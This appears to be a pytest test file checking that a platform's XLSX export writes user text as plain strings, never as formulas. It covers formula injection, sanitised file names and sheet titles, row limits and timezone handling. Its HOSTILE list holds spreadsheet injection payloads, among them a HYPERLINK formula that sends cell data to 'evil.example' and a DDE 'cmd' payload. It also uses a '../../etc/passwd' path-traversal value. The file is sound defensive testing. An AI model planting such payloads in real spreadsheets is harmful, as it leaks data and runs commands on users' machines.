"""cchc.platform.xlsx_export: a table becomes a valid workbook whose text cells are never formulas.

Formula injection (CWE-1236): a value a user typed (a unit name, a target's text, a search) that starts
with = + - @ tab or CR must not run when the file is opened, edited or re-saved. Each such cell is written
as an explicit string (no ``<f>`` element in the sheet's XML) and marked with Excel's quote prefix; its
value is unchanged, so the file shows what the page shows.
"""

from __future__ import annotations

import io
import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from cchc.platform import xlsx_export

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào\")",
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def book(columns, rows, **kwargs):
    out = io.BytesIO()
    written = xlsx_export.write_table(out, columns, rows, **kwargs)
    return out.getvalue(), written


def cells(data: bytes) -> list[list]:
    ws = load_workbook(io.BytesIO(data)).active
    return [[c.value for c in row] for row in ws.iter_rows()]


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def test_a_table_is_a_valid_workbook_with_its_header_and_rows_typed():
    data, written = book(["Mã", "Số", "Điểm", "Ngày", "Trống"],
                         [["HS-1", 3, Decimal("18.50"), date(2025, 3, 31), None], ["HS-2", 0, Decimal(0), None, ""]])
    assert written == 2
    ws = load_workbook(io.BytesIO(data)).active
    assert ws.freeze_panes == "A2", "the header row stays in view"
    assert [[c.value for c in row] for row in ws.iter_rows()] == [
        ["Mã", "Số", "Điểm", "Ngày", "Trống"],
        ["HS-1", 3, 18.5, datetime(2025, 3, 31), None],
        ["HS-2", 0, 0, None, None],
    ]
    assert ws["A1"].font.b and ws["B2"].data_type == "n" and ws["D2"].is_date


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_starting_like_a_formula_is_a_string_never_a_formula(text):
    data, _n = book(["Đơn vị"], [[text], ["Xã Mỹ Đức"]])
    ws = load_workbook(io.BytesIO(data)).active
    cell = ws["A2"]
    assert cell.value == xlsx_export.clean_text(text), "the value is what the page shows, no apostrophe added"
    assert cell.data_type == "s" and cell.quotePrefix, "written as text and marked so an edit keeps it text"
    assert not ws["A3"].quotePrefix, "a plain text is not marked"
    assert "<f>" not in sheet_xml(data) and "<f " not in sheet_xml(data)


def test_a_formula_like_header_and_title_are_escaped_too():
    data, _n = book(["=1+1"], [], title="@title")
    xml = sheet_xml(data)
    assert "<f>" not in xml and cells(data) == [["@title"], ["=1+1"]]
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["A1"].quotePrefix and ws["A2"].quotePrefix and ws.freeze_panes == "A3"


def test_numbers_and_dates_are_not_escaped():
    """Only text is: a negative number stays a number (it is no formula)."""
    data, _n = book(["n"], [[-5], [Decimal("-1.25")]])
    ws = load_workbook(io.BytesIO(data)).active
    assert (ws["A2"].value, ws["A2"].data_type, ws["A2"].quotePrefix) == (-5, "n", False)
    assert ws["A3"].value == -1.25


def test_what_a_cell_cannot_hold_is_made_safe():
    long = "x" * 40_000
    data, _n = book(["a", "b", "c"], [["Xã\x00 Mỹ\x07 Đức\x1b", long, datetime(2025, 3, 31, 1, 0, tzinfo=UTC)]])
    row = cells(data)[1]
    assert row[0] == "Xã Mỹ Đức", "control characters XML refuses are dropped, never a 500"
    assert len(row[1]) == xlsx_export.MAX_CELL_CHARS
    assert row[2] == datetime(2025, 3, 31, 8, 0), "an aware time is written in local time (UTC+7) without its zone"


def test_rows_stop_at_the_bound_and_a_generator_is_read_lazily():
    read = []

    def rows():
        for i in range(10):
            read.append(i)
            yield [i]

    data, written = book(["i"], rows(), max_rows=3)
    got = [r[0] for r in cells(data)[1:]]
    assert written == 3 and got[:3] == [0, 1, 2]
    assert got[3] == "… Chỉ ghi 3 dòng đầu; còn dòng khác không được ghi. Hãy thu hẹp bộ lọc.", "never silently shorter"
    assert read == [0, 1, 2, 3], "the generator is not drained past the bound"
    data, written = book(["i"], [[1], [2]], max_rows=2)
    assert written == 2 and [r[0] for r in cells(data)[1:]] == [1, 2], "exactly the bound: no note"


@pytest.mark.parametrize(("stem", "parts", "expected"), [
    ("xep-hang-766", ("commune", "2025-01-01"), "xep-hang-766-commune-2025-01-01.xlsx"),
    ("ho-so", ("Quý I/2025", "Đắk Lắk"), "ho-so-quy-i-2025-dak-lak.xlsx"),
    ("KH-2025", ("", "tasks"), "kh-2025-tasks.xlsx"),
    ("x", ("../../etc/passwd\r\n",), "x-etc-passwd.xlsx"),
])
def test_file_names_are_plain_ascii_with_the_period(stem, parts, expected):
    assert xlsx_export.filename(stem, *parts) == expected


def test_sheet_titles_excel_accepts():
    assert xlsx_export.sheet_title("Xếp hạng: Quý I/2025 [khối xã]") == "Xếp hạng  Quý I 2025  khối xã"[:31]
    assert xlsx_export.sheet_title("") == "Sheet1"
    assert len(xlsx_export.sheet_title("x" * 50)) == 31


def test_the_response_is_a_download_of_a_valid_workbook():
    response = xlsx_export.xlsx_response(name="bang.xlsx", columns=["Tên"], rows=[["=1+1"]], title="Bảng")
    body = b"".join(response.streaming_content)
    assert response["Content-Type"] == xlsx_export.CONTENT_TYPE
    assert re.search(r'attachment; filename="bang\.xlsx"', response["Content-Disposition"])
    assert response["Cache-Control"] == "no-store"
    assert cells(body) == [["Bảng"], ["Tên"], ["=1+1"]]
